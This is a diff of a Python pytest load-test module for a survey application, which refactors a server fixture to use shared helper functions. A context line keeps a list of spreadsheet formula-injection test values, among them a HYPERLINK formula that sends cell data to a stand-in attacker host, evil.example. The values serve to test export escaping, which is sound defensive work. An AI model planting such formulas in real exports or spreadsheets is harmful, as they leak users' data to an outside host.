@@ -9,13 +9,12 @@ import csv
 import io
 import os
 import shutil
-import subprocess
 from collections.abc import Iterator
 
 import pytest
 
-from tests.browser.nginx_proxy import SERVER_NAME, LoopbackHTTPS, NginxProxy, missing, production
-from tests.load.load_client import ROOT, SLUG, VENV_BIN, Respondent, Server
+from tests.browser.nginx_proxy import SERVER_NAME, LoopbackHTTPS, NginxProxy, analyst_account, production, require_production_shape
+from tests.load.load_client import SLUG, Respondent, Server
 
 pytestmark = pytest.mark.load
 
@@ -26,17 +25,9 @@ FORMULAS = ["a;=1+41;b", '=HYPERLINK(CHAR(104)&"ttps://evil.example/?"&A2;"Hilfe
 
 @pytest.fixture(scope="module")
 def served(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Server, NginxProxy]]:
-    reason = missing()
-    if reason:
-        if os.environ.get("SURVEY_REQUIRE_BROWSER") == "1":
-            pytest.fail(reason)
-        pytest.skip(reason)
+    require_production_shape()
 
-    def create_analyst(server: Server) -> None:
-        subprocess.run([str(VENV_BIN / "survey"), "create-user", ANALYST, "--role", "analyst", "--password-stdin"],
-                       input=PASSWORD, text=True, env=server.env(), cwd=ROOT, check=True, capture_output=True, timeout=60)
-
-    with production(tmp_path_factory.mktemp("attacks"), before_start=create_analyst) as shape:
+    with production(tmp_path_factory.mktemp("attacks"), before_start=analyst_account(ANALYST, PASSWORD)) as shape:
         yield shape
 
 
